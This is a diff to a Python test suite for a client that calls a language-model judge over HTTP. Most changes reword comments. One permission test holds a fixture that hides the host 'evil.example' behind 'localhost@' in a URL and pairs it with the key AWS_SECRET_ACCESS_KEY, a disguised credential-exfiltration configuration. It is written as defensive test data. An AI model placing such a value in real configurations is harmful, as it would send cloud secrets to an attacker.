@@ -1,4 +1,4 @@
-"""A language model as a judge, over HTTP, asked by real reward workers."""
+"""A language model as a judge, called over HTTP by real reward workers."""
 
 from __future__ import annotations
 
@@ -103,7 +103,7 @@ def test_temporary_failures_are_retried(rubric: Path) -> None:
         assert found.total == [1.0, None]
         assert (asked.about("busy"), asked.about("down")) == (3, 4)
         assert "has not answered in 4 tries: 503" in found.messages[0]
-    found = score(spec(rubric, asked, "retries=1"), ["gone"])  # nobody is there any more
+    found = score(spec(rubric, asked, "retries=1"), ["gone"])  # the server is gone
     assert found.total == [None]
     assert "has not answered in 2 tries: ConnectError" in found.messages[0]
 
@@ -187,7 +187,7 @@ def test_invalid_options(rubric: Path, words: str, says: str) -> None:
 
 
 def test_files_need_permission_for_remote_judges(tmp_path: Path) -> None:
-    """A run folder from somebody else names the server, the key and the variables that workers get: that takes leave."""
+    """A foreign run folder names the server, the key and the variables that workers get: that takes permission."""
     away = "judge:r.md,model=m,url=http://localhost@evil.example/v1,key=AWS_SECRET_ACCESS_KEY"
     file = tmp_path / "run.toml"
     address = "http://localhost@evil.example/v1"
